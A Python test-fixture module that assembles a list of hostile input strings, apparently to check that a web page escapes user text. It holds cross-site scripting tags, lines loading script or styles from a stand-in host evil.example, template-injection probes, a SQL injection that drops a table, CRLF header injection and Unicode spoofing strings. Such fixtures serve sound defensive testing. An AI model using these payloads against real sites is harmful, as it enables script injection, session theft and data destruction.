"""Sixty strings that would do harm on a page that took words for markup, script or addresses."""

from __future__ import annotations

from tests.sample import HOSTILE

_RUN = "window.pwned=1"
_TAGS = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT>{_RUN}",
    f"<img src=x onerror={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<body onload={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data='javascript:{_RUN}'></object>",
    f"<embed src='javascript:{_RUN}'>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<input autofocus onfocus={_RUN}>",
    f"<math><mtext><script>{_RUN}</script></mtext></math>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<form action='//evil.example'><button>Search</button></form>",
)
# What closes the place that the words stand in: text, attribute, title, table, list, comment.
_DOORS = ("", "'>", '">', "</title>", "</blockquote></td>", "--></style>", "]]>", "</mark></p>")
_ODD = (
    "JaVaScRiPt:window.pwned=1//",
    "data:text/html,<script>window.pwned=1</script>",
    "vbscript:msgbox(1)",
    "//evil.example/%2e%2e",
    "\\\\evil.example\\share",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "' OR 1=1; DROP TABLE link; --",
    'NEAR("a" "b" AND OR NOT ( * ^',
    "%00%0d%0aSet-Cookie: pwned=1",
    "a\u0000b\u0008c\u001b]0;pwned\u0007",
    "\u202egnp.exe\u202c \u2066\u2069 \u200b\ufeff",
    "𝕳𝖔𝖘𝖙𝖎𝖑𝖊 ﷽ Z̷͂a̶lgo",
    "&#x3C;script&#x3E;window.pwned=1&#x3C;/script&#x3E;",
    "&lt;img src=x onerror=window.pwned=1&gt;",
    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    "ｗ＜script＞window.pwned=1＜/script＞",
    "x" * 3000,
)
WORDS = (
    *HOSTILE,
    *(f"{_DOORS[(number + 1) % len(_DOORS)]}{tag}" for number, tag in enumerate(_TAGS)),
    *(f"{_DOORS[(number + 3) % len(_DOORS)]}{tag}" for number, tag in enumerate(_TAGS)),
    *_ODD,
)
